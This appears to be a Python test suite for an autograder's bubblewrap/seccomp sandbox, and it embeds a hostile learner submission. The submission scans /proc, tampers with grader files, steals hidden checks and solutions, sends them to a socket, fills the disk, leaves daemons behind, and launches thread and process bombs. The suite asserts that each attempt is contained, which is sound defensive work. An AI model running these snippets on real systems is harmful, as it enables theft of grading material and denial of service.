"""A hostile learner among correct and wrong neighbours (issue 14), graded for real with
``grader grade`` and ``grader batch`` (forked processes): every neighbour gets what it deserves,
the attacker gains nothing, nothing leaks, nothing survives the run.

One attacker tries every class of attack the issue measured: at its top level it looks through
/proc for the class and output folders and the other gradings' pipes, rewrites the grader's own
files, reads the hidden checks and the solutions, connects to the network, writes outside its
work dir and far past its size, and leaves a daemon behind; its functions start an escaped crowd
of spinners and a thread bomb. What it saw is printed, so the report's output shows it.
"""

from __future__ import annotations

import ast
import dataclasses
import hashlib
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from grader.course import load_course
from grader.grading import grade
from grader.run import isolation, seccomp
from grader.run.isolation import fork_trial, probe
from grader.run.launch import grading_launcher
from grader.run.share import lanes_here
from tests.conftest import ROOT, STUBS, Graded, course_with, run_cli, solution_text, survivors

pytestmark = pytest.mark.skipif(probe().mode != "bwrap", reason="isolation is not available on this machine")
MARKER = "hostile-learner-7c1e"  # in every process the attacker starts, to find survivors by
HIDDEN = "def test_describe_device_cuda"  # a line of a hidden check's source
SOLUTION = "def train_step_with_backoff"  # a line of the solutions

RECON = r'''
import glob, os, socket, subprocess, sys

def _say(key, value):
    print(f"[{key}] {value}")

_say("uid", os.getuid())
_status = dict(l.split(":", 1) for l in open("/proc/self/status"))
_say("caps", [int(_status[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]
     + [int(_status["NoNewPrivs"])])
def _writes(folder):
    try:
        with open(os.path.join(folder, "MARKER-left"), "w") as out:
            out.write("left")
        return True
    except OSError:
        return False
# Every mounted folder it can leave a file in (a forked process's view is its server's, which its
# neighbours share): its work dir and its POSIX shared memory, both its own, nothing else.
_mounts = {line.split()[4] for line in open("/proc/self/mountinfo") if " - proc " not in line}
_say("writable", sorted(m for m in _mounts | {"/", "/dev", "/dev/shm", "/opt"} if os.path.isdir(m) and _writes(m)))
_say("forked", sys.modules["__main__"].__spec__.name == "grader.spawn.forkserver")
def _owner(pid):
    try:
        return int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("Uid:")).split()[1])
    except (OSError, StopIteration):
        return None
_say("pids", sorted((int(p), _owner(p)) for p in os.listdir("/proc") if p.isdigit()))
for pid in (1,):
    try:
        os.kill(pid, 9)
        _say("killed", pid)
    except OSError as exc:
        _say("kill refused", f"{pid}: {exc.strerror}")
seen = set()
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
    try:
        seen.update(w for w in open(path, "rb").read().decode(errors="replace").split("\0") if w.startswith("/"))
    except OSError:
        pass
_say("paths seen", sorted(p for p in seen if not p.startswith("/dev")))
def _link(fd):
    try:
        return os.readlink(fd)
    except OSError:
        return ""
# Pipes another process holds (the grader's, a neighbour's?), where it can read them.
_say("pipes seen", sorted(fd for fd in glob.glob("/proc/[0-9]*/fd/*")
                          if not fd.startswith(f"/proc/{os.getpid()}/") and _link(fd).startswith("pipe:")))
for target in (ROOT + "/grader/checks/conftest.py", ROOT + "/grader/score/scoring.py", ROOT + "/course.yaml",
               ROOT + "/grader/checks/ex1_device/test_describe_device_cuda.py"):
    try:
        with open(target, "a") as out:
            out.write("# hacked\n")
        _say("wrote", target)
    except OSError as exc:
        _say("write refused", f"{target}: {exc.strerror}")
leaked = ""
found = [path for pattern in (ROOT + "/grader/checks/*/test_*.py", ROOT + "/solutions/*.py")
         for path in glob.glob(pattern)[:50]]
walked = 0
for top in sorted(os.listdir("/")):  # the whole filesystem it sees, but the kernel's (/proc is probed above)
    if top in ("proc", "sys", "dev"):
        continue
    for folder, _, names in os.walk("/" + top):
        walked += len(names)
        if folder.endswith("/checks/ex1_device") or folder.endswith("/solutions"):
            found += [os.path.join(folder, name) for name in names if name.endswith(".py")]
for path in found:
    try:
        leaked += open(path).read()
    except OSError:
        pass
_say("files walked", walked)
_say("leaked bytes", len(leaked))
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"exfiltrated " + leaked[:1000].encode())
    _say("network", "sent")
except OSError as exc:
    _say("network", exc.strerror)
for path in ("/tmp/MARKER-outside", ROOT + "/MARKER-outside", os.path.expanduser("~/MARKER-big")):
    try:
        with open(path, "wb") as out:
            for _ in range(2048):
                out.write(b"0" * 1024 * 1024)  # 2 GB
        _say("wrote 2 GB", path)
    except OSError as exc:
        _say("big write stopped", f"{path}: {exc.strerror}")
if os.fork() == 0:  # a daemon: its own session, a clean environment, forever
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "MARKER-daemon"], {})
    os._exit(0)
import time
time.sleep(0.5)
_say("daemons", sum(1 for p in os.listdir("/proc") if p.isdigit() and "MARKER" in open(f"/proc/{p}/cmdline").read()))
'''

SPINNERS = r'''
import os, subprocess, sys, time

STARTED = []

def time_matmul(n, device, repeats=5):
    if not STARTED:  # escaped spinners, once: their own sessions, a clean environment
        STARTED.extend(subprocess.Popen([sys.executable, "-c", "while True: pass", "MARKER-spinner"],
                                        start_new_session=True, env={}) for _ in range(8))
        time.sleep(0.5)
        print("[spinners]", sum(1 for p in os.listdir("/proc")
                                if p.isdigit() and "MARKER" in open(f"/proc/{p}/cmdline").read()))
    return 1e-3  # within any call's duration (ex2's public bound): judged alike with or without the spinners
'''

# The flood first (ex3's first check calls roundtrip), then the bomb, whose sleeping threads then hold the
# run at its process limit. The other way round, once in about seven runs on 2026-12-03 the flood's check,
# second, read as the limit's and not as its text: something in it met the limit the bomb held.
THREAD_BOMB = r'''
import threading, time

def roundtrip(x, device):  # 60 KB of text through a visible check's message
    raise ValueError("FLOOD" * 12000)

def to_numpy(t):
    for _ in range(16000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    return t.detach().numpy()
'''


# Its search of the filesystem takes 1-2 s here; the cell limit (10 s in course.yaml) is raised so that a
# busy machine cannot cut it short: the test asserts the search ended.
ATTACKER_COURSE = {"max_processes: 256": "max_processes: 128", "cell_timeout_s: 10": "cell_timeout_s: 60"}


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on the grader's loopback: whatever reaches it was exfiltrated."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(65536))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def _attacker(folder: Path, port: int) -> Path:
    folder.mkdir(parents=True)
    recon = RECON.replace("ROOT", repr(str(ROOT))).replace("PORT", str(port)).replace("MARKER", MARKER)
    (folder / "ex1_device.py").write_text(recon + "\n" + solution_text("ex1"), encoding="utf-8")
    (folder / "ex2_timing.py").write_text(SPINNERS.replace("MARKER", MARKER), encoding="utf-8")
    (folder / "ex3_roundtrip.py").write_text(THREAD_BOMB, encoding="utf-8")
    return folder


def _class(tmp_path: Path, port: int) -> Path:
    cls = tmp_path / "class"
    (cls / "good").mkdir(parents=True)
    for module in ("ex1_device", "ex2_timing", "ex3_roundtrip"):
        (cls / "good" / f"{module}.py").write_text(solution_text(module.split("_")[0]), encoding="utf-8")
        (cls / "bad").mkdir(exist_ok=True)
        (cls / "bad" / f"{module}.py").write_text((STUBS / f"{module}.py").read_text(encoding="utf-8"), "utf-8")
    _attacker(cls / "mallory", port)
    return cls


def _digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _output(report: dict[str, Any], key: str) -> str:
    lines = [line for line in report["output"].splitlines() if line.startswith(f"[{key}]")]
    assert lines, (key, report["output"][:2000])
    return lines[0].split("] ", 1)[1]


def _assert_contained(attacker: dict[str, Any], received: list[bytes], before: dict[str, str], *, forked: bool) -> None:
    assert attacker["isolation"]["mode"] == "bwrap"
    assert _output(attacker, "uid") == "65534"  # nobody, who owns nothing
    assert _output(attacker, "forked") == str(forked)
    # No capability (Inh, Prm, Eff, the bounding set, Amb), none to gain (no_new_privs); as root it
    # is nobody, as an ordinary user nobody in a user namespace, where a forked one's server holds
    # every capability (grader/spawn/confine.py ``drop_privileges``).
    assert ast.literal_eval(_output(attacker, "caps")) == [0, 0, 0, 0, 0, 1]
    assert ast.literal_eval(_output(attacker, "writable")) == ["/dev/shm", "/learner"]
    # Its pid namespace's init and itself: nothing else, and the init is not signalable. As root the init
    # is root's, and the kill is refused; an ordinary user's sandbox maps one uid, so the init has the
    # learner's, and the kernel drops a SIGKILL sent to a namespace's init from inside it: accepted, and
    # nothing happens (the init's end would have ended this process, which goes on to print below).
    assert _output(attacker, "pids") == f"[(1, {0 if probe().as_root else 65534}), (2, 65534)]"
    if probe().as_root:
        assert _output(attacker, "kill refused") == "1: Operation not permitted"
    else:
        assert _output(attacker, "killed") == "1"
    # Nothing in any command line or environment it can read names the project or the class: at
    # most the interpreter, setpriv and bwrap (bubblewrap's options came through a pipe).
    seen = ast.literal_eval(_output(attacker, "paths seen"))
    assert not [p for p in seen if p.startswith(str(ROOT)) and not p.startswith(sys.prefix)], seen
    assert not [p for p in seen if "class" in p or "mallory" in p], seen
    # At most its init's standard streams, which are its own stdin and stdout (bubblewrap's init, where it
    # has the learner's uid: as an ordinary user, exec'd); a forked one's init keeps no fd it could read.
    assert set(ast.literal_eval(_output(attacker, "pipes seen"))) <= {"/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"}
    assert _output(attacker, "leaked bytes") == "0"
    assert int(_output(attacker, "files walked")) > 1000  # the search went through torch's files, and ended
    assert attacker["top_level"] == []
    assert "wrote " + str(ROOT) not in attacker["output"]
    assert _output(attacker, "network") in ("Connection refused", "Network is unreachable")
    assert received == []
    assert "[wrote 2 GB]" not in attacker["output"]
    assert _digest(ROOT / "grader") == before  # the grader's files, byte for byte
    assert not Path(f"/tmp/{MARKER}-outside").exists() and not (ROOT / f"{MARKER}-outside").exists()
    assert HIDDEN not in yaml.safe_dump(attacker) and SOLUTION not in yaml.safe_dump(attacker)
    assert _output(attacker, "daemons") == "1" and int(_output(attacker, "spinners")) >= 8  # they did start
    time.sleep(0.5)
    assert survivors(MARKER) == []  # the daemon, the spinners, the threads: ended with the run
    bomb = next(c for c in attacker["exercises"]["ex3"]["checks"] if c["id"] == "ex3.to_numpy_cpu")
    assert bomb["status"] == "error" and "processes" in bomb["message"], bomb  # threads count
    flood = next(c for c in attacker["exercises"]["ex3"]["checks"] if c["id"] == "ex3.roundtrip_values")
    assert "FLOODFLOOD" in flood["message"] and "more characters cut" in flood["message"], flood
    assert max(len(c["message"]) for ex in attacker["exercises"].values() for c in ex["checks"]) < 1500


def _assert_gradescope_capped(results: dict[str, Any]) -> None:
    assert max(len(test["output"]) for test in results["tests"]) < 3000
    flood = next(t for t in results["tests"] if t["name"] == "ex3.roundtrip_values")
    assert "more characters cut" in flood["output"]


@pytest.mark.parametrize("cores", ["one core", "every core"])
def test_an_attacker_graded_alone_reaches_nothing(cores: str, tmp_path: Path,
                                                  listener: tuple[int, list[bytes]]) -> None:
    """``grader grade`` of an attacker: on one core its learner processes are exec'd; where it runs the course's
    lanes side by side, forked from a warm server (grader/run/lanes.py), as a batch's are."""
    port, received = listener
    cls = _class(tmp_path, port)
    before = _digest(ROOT / "grader")
    neighbours = _digest(cls / "good")
    course = course_with(tmp_path, ATTACKER_COURSE)
    out = tmp_path / "mallory.yaml"
    gradescope = tmp_path / "results.json"
    proc = run_cli("grade", str(cls / "mallory"), "-o", str(out), "--lang", "en", "--course", str(course),
                   "--gradescope", str(gradescope), timeout=240, one_core=cores == "one core")
    assert proc.returncode == 0, proc.stderr
    forked = cores == "every core" and lanes_here("auto", probe().learners_fork) > 1
    _assert_contained(yaml.safe_load(out.read_text(encoding="utf-8")), received, before, forked=forked)
    _assert_gradescope_capped(json.loads(gradescope.read_text(encoding="utf-8")))
    assert _digest(cls / "good") == neighbours


def test_an_attacker_in_a_batch_changes_no_neighbours_grade(tmp_path: Path, listener: tuple[int, list[bytes]],
                                                            grade_forked: Callable[..., Graded]) -> None:
    port, received = listener
    cls = _class(tmp_path, port)
    before = _digest(ROOT / "grader")
    course = course_with(tmp_path, ATTACKER_COURSE)
    out = tmp_path / "out"
    started = time.monotonic()
    proc = run_cli("batch", str(cls), "-o", str(out), "--workers", "2", "--lang", "en", "--course", str(course),
                   timeout=300)
    assert proc.returncode == 0, proc.stderr
    reports = {name: yaml.safe_load((out / f"{name}.yaml").read_text(encoding="utf-8"))
               for name in ("good", "bad", "mallory")}
    assert reports["good"]["score"] == 60.0, reports["good"]["exercises"]  # ex1-ex3 in full
    assert reports["bad"]["score"] == 0.0
    assert all(r["notes"] == [] for name, r in reports.items() if name != "mallory")
    _assert_contained(reports["mallory"], received, before, forked=probe().learners_fork)
    # What its functions deserve: ex1 is a solution; ex2 as the same time_matmul without the spinners.
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "ex2_timing.py").write_text("def time_matmul(n, device, repeats=5):\n    return 1e-3\n", encoding="utf-8")
    deserved = grade_forked(plain).exercise("ex2")["score"]
    assert [reports["mallory"]["exercises"][ex]["score"] for ex in ("ex1", "ex2", "ex3")] == [20.0, deserved, 0.0]
    assert time.monotonic() - started < 200
    # A re-run keeps what the grader wrote, and regrades nothing.
    again = run_cli("batch", str(cls), "-o", str(out), "--lang", "en", "--course", str(course))
    assert "0 graded, 3 already up to date" in again.stdout


def test_device_nodes_bound_for_the_gpu_are_there_inside(monkeypatch: pytest.MonkeyPatch) -> None:
    """The GPU's nodes are bound after the sandbox's fresh /dev (bound before it, they were hidden
    under it: CUDA would have been invisible to every isolated learner on a GPU machine). Any
    host device outside bubblewrap's own /dev stands in for /dev/nvidia0 here."""
    host = next((d for d in ("/dev/kmsg", "/dev/loop-control", "/dev/fuse", "/dev/kvm") if os.path.exists(d)), None)
    if host is None:
        pytest.skip("no host device node to stand in for a GPU's")
    monkeypatch.setattr(isolation, "GPU_DEVICES", (host,))
    with isolation.sandboxed(probe(), ["/bin/ls", "/dev"], {}, 16) as (argv, fds):
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False, pass_fds=fds)
    assert proc.returncode == 0, proc.stderr
    assert os.path.basename(host) in proc.stdout.split()


def test_a_gpu_the_sandbox_cannot_see_leaves_the_machine_unsandboxed(monkeypatch: pytest.MonkeyPatch) -> None:
    """On a machine with /dev/nvidiactl the probe counts the CUDA devices inside the sandbox and out
    (side by side, asking the driver): the same count keeps the sandbox, another says
    why not. Here a program stands in for the count: equal outside and in, then one that tells them
    apart (bubblewrap's own pid namespace numbers the process low)."""
    sandbox = probe()  # found first, without the node
    if sandbox.mode != "bwrap":
        pytest.skip("no bubblewrap here")
    real_exists = os.path.exists
    monkeypatch.setattr(isolation.os.path, "exists", lambda path: path == "/dev/nvidiactl" or real_exists(path))
    assert isolation._gpus_lost_inside(sandbox, "print(2)") == ""
    lost = isolation._gpus_lost_inside(sandbox, "import os; print(1 if os.getpid() < 100 else 2)")
    assert lost == "the GPU inside bubblewrap (2 CUDA devices here, 1 inside)", lost
    # The program a GPU machine runs asks NVIDIA's driver, without torch (0.1 s there, where a fresh
    # torch import took 3.7-5.5 s): where the driver is missing, as here, it counts 0, outside and in.
    assert isolation._gpus_lost_inside(sandbox) == ""
    counted = subprocess.run([sys.executable, "-c", isolation.GPU_COUNT], capture_output=True, text=True,
                             timeout=60, check=True)
    assert counted.stdout.strip().isdigit(), counted
    if not real_exists("/dev/nvidiactl"):
        assert counted.stdout.strip() == "0"


# At its top level, each learner process looks for what another left behind — a System V segment, a
# key in nobody's user keyring or persistent keyring (which outlives every process for days) — then
# leaves its own: channels between learner processes that outlive them.
LEFT_BEHIND = r'''
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x14141414
found = libc.shmget(KEY, 0, 0)
print("[found]", ctypes.string_at(libc.shmat(found, None, 0)).decode() if found >= 0 else "-")
made = libc.shmget(KEY, 4096, 0o1666)  # IPC_CREAT | 0666
if made >= 0:
    ctypes.memmove(libc.shmat(made, None, 0), b"left-by-{name}\0", len("left-by-{name}") + 1)
import os
try:  # POSIX shared memory (shm_open's files, a DataLoader's batches)
    print("[shm]", open("/dev/shm/grader-test-left").read())
except OSError:
    print("[shm] -")
with open("/dev/shm/grader-test-left", "w") as left:
    left.write("left-by-{name}")

ADD_KEY, KEYCTL = {{"x86_64": (248, 250), "aarch64": (217, 219)}}[platform.machine()]
USER, SEARCH, READ, PERSISTENT = -4, 10, 11, 22
rings = [USER, libc.syscall(KEYCTL, PERSISTENT, -1, USER)]
for ring in rings:
    key = libc.syscall(KEYCTL, SEARCH, ring, b"user", b"grader-test-left", 0) if ring != -1 else -1
    buffer = ctypes.create_string_buffer(64)
    print("[key]", buffer.raw[:libc.syscall(KEYCTL, READ, key, buffer, 64)].decode() if key >= 0 else "-")
    libc.syscall(ADD_KEY, b"user", b"grader-test-left", b"left-by-{name}", len("left-by-{name}"), ring)

def pick_device():
    return "cpu"
'''


def test_nothing_a_learner_process_leaves_in_the_kernel_reaches_the_next(
        tmp_path: Path, grade: Callable[..., Graded], grade_forked: Callable[..., Graded]) -> None:
    """Three gradings one after the other: forked from this test process's warm server (its sandbox
    has one IPC namespace), exec'd (``grader grade``'s own sandbox), forked again. What one left in
    System V shared memory, /dev/shm or nobody's keyrings, the next does not find: each forked learner
    process gets IPC and network namespaces and a /dev/shm of its own (grader/spawn/confine.py
    ``enter_run``), and every sandbox refuses the keyrings, which no namespace separates
    (grader/run/seccomp.py)."""
    seen = []
    for name, grading in (("first", grade_forked), ("second", grade), ("third", grade_forked)):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "ex1_device.py").write_text(LEFT_BEHIND.format(name=name), encoding="utf-8")
        graded = grading(folder)
        assert graded.report is not None, graded.stderr
        seen.append(graded.report["output"])
    assert all(output.count("[found] -") == 1 and output.count("[key] -") == 2 and output.count("[shm] -") == 1
               for output in seen), seen

# Two learner processes of a batch side by side, forked from one server: each opens a pseudo-terminal
# and looks, for up to 3 s, for one it did not open (its name is another's to open: same owner).
PTY_PEEK = r'''
import os, time
master, slave = os.openpty()
mine = os.path.basename(os.ttyname(slave))
others = []
for _ in range(30):
    others = sorted(set(os.listdir("/dev/pts")) - {"ptmx", mine})
    if others:
        break
    time.sleep(0.1)
print("[others]", others)

def pick_device():
    return "cpu"
'''


@pytest.mark.skipif(not probe().learners_fork, reason="no learner process is forked here")
def test_learner_processes_forked_side_by_side_see_no_pseudo_terminal_of_the_other(
        tmp_path: Path, batch_forked: Callable[..., Any]) -> None:
    """The server's /dev/pts is one devpts instance; each forked learner process mounts one of its own
    (grader/spawn/confine.py ``enter_run``), or a pty one opened was there for the other to open."""
    cls = tmp_path / "class"
    for name in ("left", "right"):
        (cls / name).mkdir(parents=True)
        (cls / name / "ex1_device.py").write_text(PTY_PEEK, encoding="utf-8")
    out = tmp_path / "out"
    proc = batch_forked(str(cls), "-o", str(out), "--workers", "2", "--lang", "en")
    assert proc.returncode == 0, proc.stderr
    for name in ("left", "right"):
        report = yaml.safe_load((out / f"{name}.yaml").read_text(encoding="utf-8"))
        assert _output(report, "others") == "[]", report["output"]


def test_whether_learner_processes_fork_here_is_tried_not_assumed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whether a learner server forks isolated processes (``Isolation.forks``, what ``grader doctor``'s
    fork-server line and the launcher read) comes, for an ordinary user, from a trial fork in a
    server's sandbox (grader/run/isolation.py ``fork_trial``), not from what the machine should allow.
    Here it forks; root without a pids cgroup does not; and root's bubblewrap making an ordinary
    user's namespaces (its mounts are root's, so a child there cannot mount its /proc) is refused —
    where a server would say so before serving, and each learner process is exec'd."""
    found = probe()
    assert found.forks == (found.fork_refused == "")
    assert fork_trial(found) == "" if found.forks else "pids cgroup" in found.fork_refused
    if found.as_root:
        refused = fork_trial(dataclasses.replace(found, as_root=False, cgroups="", memory_cgroups=""))
        assert "refuses a forked process namespaces of its own" in refused
        monkeypatch.setattr(isolation, "hierarchy", lambda: "")
        without = isolation.probe.__wrapped__()  # type: ignore[attr-defined]  # functools.cache's own function
        assert not without.forks and "pids cgroup to hold a forked run" in without.fork_refused


MARKLESS = r'''
import os, subprocess, sys, time

SLEEP = [sys.executable, "-c", "import time; time.sleep(300)", "{marker}"]
print("[marks]", sorted(k for k in os.environ if "GRADER" in k.upper() or "TOKEN" in k.upper()))
if os.fork() == 0:  # a daemon: its own session, a clean environment
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, SLEEP, {{}})
    os._exit(0)
subprocess.Popen(SLEEP, start_new_session=True)
time.sleep(0.5)
'''

# In ex3's last check (to_numpy_grad_and_device hands it a tensor that requires grad): the run it ends
# leaves no check for another run to start for.
CROWD = '''
import os, subprocess, sys, time

def to_numpy(t):  # past 16 and the learner process's allowance for torch's threads (task_limit)
    if t.requires_grad:
        procs = [subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(60)", "{marker}-crowd"],
                                  start_new_session=True) for _ in range(16 + 2 * (os.cpu_count() or 1) + 24)]
        time.sleep(5)
    return t.detach().cpu().numpy()
'''


@pytest.mark.skipif(probe().mode != "bwrap", reason="no bubblewrap here")
def test_a_sandbox_without_cgroups_finds_its_processes_without_marking_the_learner(tmp_path: Path) -> None:
    """Where no cgroup holds a run (bubblewrap as an unprivileged user: not root), the sandbox's
    process tree finds the run's processes: the learner's environment carries no mark that it is
    graded (issue 22, item 5; a run token did until 2026-12-02), what it left behind in sessions of
    its own ends with the run, and a crowd past the course's process limit is stopped."""
    unprivileged = dataclasses.replace(probe(), as_root=False, cgroups="", memory_cgroups="")
    marker = f"markless-{os.getpid()}"
    folder = tmp_path / "learner"
    folder.mkdir()
    (folder / "ex1_device.py").write_text(MARKLESS.format(marker=marker) + solution_text("ex1"), encoding="utf-8")
    (folder / "ex3_roundtrip.py").write_text(CROWD.replace("{marker}", marker), encoding="utf-8")
    course = load_course(course_with(tmp_path, {"max_processes: 256": "max_processes: 16"}))
    with grading_launcher(unprivileged) as launcher:
        report = grade(folder, course, lang="en", exercises=["ex1", "ex3"], launcher=launcher)
    assert report.isolation.mode == "bwrap"
    assert "[marks] []" in report.output
    exercises = {ex.id: ex for ex in report.exercises}
    assert exercises["ex1"].score == exercises["ex1"].max_score
    crowd = next(c for c in exercises["ex3"].checks if c.id == "ex3.to_numpy_grad_and_device")
    assert crowd.status == "error"
    assert "more than 16 processes and threads" in crowd.message
    time.sleep(0.5)
    assert survivors(marker) == []  # the daemon, the process in a session of its own, the crowd


def _run_filter(program: bytes, arch: int, number: int) -> int:
    """What the kernel's BPF interpreter returns for a call (only the instructions the filter uses)."""
    ops = [struct.unpack("=HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
    data = {0: number, 4: arch}
    pc, acc = 0, 0
    while True:
        code, jt, jf, k = ops[pc]
        if code == 0x20:  # ld [k]
            acc = data[k]
        elif code in (0x15, 0x35):  # jeq / jge k
            pc += jt if (acc == k if code == 0x15 else acc >= k) else jf
        elif code == 0x06:  # ret k
            return k
        pc += 1


@pytest.mark.parametrize("machine", ["x86_64", "aarch64"])
def test_the_seccomp_filter_refuses_the_keyrings_and_nothing_else(machine: str) -> None:
    """Each architecture's filter (grader/run/seccomp.py), run as the kernel runs it: the keyring calls
    and any call of another ABI get EPERM, every other call goes through (aarch64's cannot run here)."""
    program = seccomp.filter_program(machine)
    assert program is not None
    audit_arch, refused = seccomp._ARCHES[machine]  # noqa: SLF001 - the table the filter is built from
    allow, eperm = 0x7FFF0000, 0x00050000 | 1
    assert [_run_filter(program, audit_arch, n) for n in refused] == [eperm] * 3
    assert {_run_filter(program, audit_arch, n) for n in range(450) if n not in refused} == {allow}
    assert _run_filter(program, 0x40000003, 0) == eperm  # i386's ABI on an x86-64 kernel
    assert _run_filter(program, audit_arch, 0x40000000 + refused[0]) == eperm  # x32's numbers
    assert seccomp.filter_program("riscv64") is None


@pytest.mark.parametrize("program", [None, b"\0" * 12], ids=["no filter for this architecture", "refused"])
def test_a_machine_that_cannot_filter_still_sandboxes_and_says_the_keyrings_are_shared(
        program: bytes | None, monkeypatch: pytest.MonkeyPatch) -> None:
    """No filter for the architecture, or one bubblewrap refuses (a kernel without seccomp filters;
    here a program that is not whole instructions): every sandbox still runs, without the filter, and
    the isolation every report carries says what is missing (grader/run/isolation.py ``probe``)."""
    monkeypatch.setattr(isolation, "filter_program", lambda: program)
    found = isolation.probe.__wrapped__()  # type: ignore[attr-defined]  # functools.cache's own function
    assert found.mode == "bwrap" and not found.seccomp
    assert [m for m in found.missing if "keyrings are shared" in m], found.missing
    with isolation.sandboxed(found, [sys.executable, "-c", "pass"], {}, 16) as (argv, fds):
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False, pass_fds=fds)
    assert proc.returncode == 0, proc.stderr


def test_a_runs_cgroup_counts_each_refused_fork_as_it_happens() -> None:
    """``RunCgroup.limit_hits`` reads pids.events through an fd it holds: each read must see the count as it
    is then (read from the file's start, not where the last read ended). A process in a cgroup of one task
    tries to fork twice; the kernel refuses both, and the count read before (0) then reads 2."""
    from grader.run.cgroups import RunCgroup, hierarchy

    pids = hierarchy()
    if not pids:
        pytest.skip("no pids cgroup here (not root): the grader counts processes by their tree")
    cgroup = RunCgroup(pids, 1)
    fds = cgroup.procs_fds()
    try:
        assert cgroup.limit_hits() == 0
        forks = ("import os, sys\nos.write(int(sys.argv[1]), str(os.getpid()).encode())\nrefused = 0\n"
                 "for _ in range(2):\n    try:\n        pid = os.fork()\n    except OSError:\n        refused += 1\n"
                 "    else:\n        os._exit(0) if pid == 0 else os.waitpid(pid, 0)\nsys.exit(refused)")
        proc = subprocess.run([sys.executable, "-S", "-c", forks, str(fds[0])], pass_fds=fds, timeout=60, check=False)
        assert proc.returncode == 2
        assert cgroup.limit_hits() == 2
        assert cgroup.limit_hits() == 2
    finally:
        for fd in fds:
            os.close(fd)
        cgroup.remove()
    assert cgroup.limit_hits() == 0  # removed (its fd closed): it reads nothing


class _Refusals:
    """A run's pids cgroup, as ``limited`` reads it: how many forks the kernel refused so far."""

    def __init__(self) -> None:
        self.hits = 0

    def limit_hits(self) -> int:
        return self.hits


def test_a_refusal_before_its_checks_start_is_read_belongs_to_that_check(tmp_path: Path) -> None:
    """The grader reads the judge's messages when it is next scheduled: on a busy machine it read a check's
    CheckStarted after the learner's thread bomb in that check had met the process limit (4 of 5 runs of
    the isolation attacker beside two spinning processes). The count before a check is the one read as the
    check before it ended, so the refusals stay that check's: red when ``refused`` is read at CheckStarted."""
    from grader.run.sandbox import _Pair, _Runner
    from grader.wire.messages import CheckEnded, CheckStarted

    limits = load_course().limits
    runner = _Runner(tmp_path, {}, [], "cpu", limits, dataclasses.make_dataclass("L", [("isolation", object)])(None))
    cgroup = _Refusals()
    pair = _Pair(None, None, -1, b"", "", cgroup)  # type: ignore[arg-type]

    def read(message: object) -> object:
        return runner.limited(pair, message)

    assert read(CheckStarted("ex3.roundtrip_values")) == CheckStarted("ex3.roundtrip_values")
    flood = CheckEnded("ex3.roundtrip_values", "error", "learner_raised")
    assert read(flood) == flood  # a failure of its own: no refusal
    cgroup.hits = 3  # the next check's bomb, before the grader reads that it started
    read(CheckStarted("ex3.to_numpy_cpu"))
    bomb = read(CheckEnded("ex3.to_numpy_cpu", "error", "learner_raised"))
    assert isinstance(bomb, CheckEnded) and bomb.message == "process_limit", bomb
    after = CheckEnded("ex3.to_numpy_grad_and_device", "failed", "ex3.not_numpy")
    read(CheckStarted(after.check))
    assert read(after) == after  # the refusals were the bomb's: the next failure is its own
    passed = CheckEnded("ex3.roundtrip_keeps_dtype", "passed")
    read(CheckStarted(passed.check))
    cgroup.hits = 4
    assert read(passed) == passed  # a check that passed keeps its points, whatever was refused

    # Where the judge counts (as each check begins and ends, in step with the learner process), its counts
    # decide, however late this process read them: here it read both checks after the second one's bomb.
    cgroup.hits = 9
    read(CheckStarted("ex3.roundtrip_values", refused=4))
    flood = CheckEnded("ex3.roundtrip_values", "error", "learner_raised", refused=4)
    assert read(flood) == flood
    read(CheckStarted("ex3.to_numpy_cpu", refused=4))
    bomb = read(CheckEnded("ex3.to_numpy_cpu", "error", "learner_raised", refused=9))
    assert isinstance(bomb, CheckEnded) and bomb.message == "process_limit", bomb


def test_the_judge_reads_the_runs_refusals_through_the_fd_it_is_handed(tmp_path: Path) -> None:
    """What the judge puts in CheckStarted and CheckEnded: the ``max`` line of the pids.events it was
    handed (-1 without one, or when it cannot be read)."""
    from grader.judge.plugin import JudgePlugin
    from grader.wire.messages import Plan, Start

    events = tmp_path / "pids.events"
    events.write_text("max 7\n", encoding="utf-8")
    fd = os.open(events, os.O_RDONLY)
    try:
        def plugin(refusals_fd: int) -> JudgePlugin:
            plan = Plan((), Start({}, str(tmp_path), 10.0, 60.0), "cpu", -1, -1, "", 0, refusals_fd)
            return JudgePlugin(plan, None, None)  # type: ignore[arg-type]

        assert plugin(fd).refused() == 7
        events.write_text("max 12\n", encoding="utf-8")
        assert plugin(fd).refused() == 12  # read afresh each time
        assert plugin(-1).refused() == -1
    finally:
        os.close(fd)
    assert plugin(fd).refused() == -1  # closed: no count, never an error
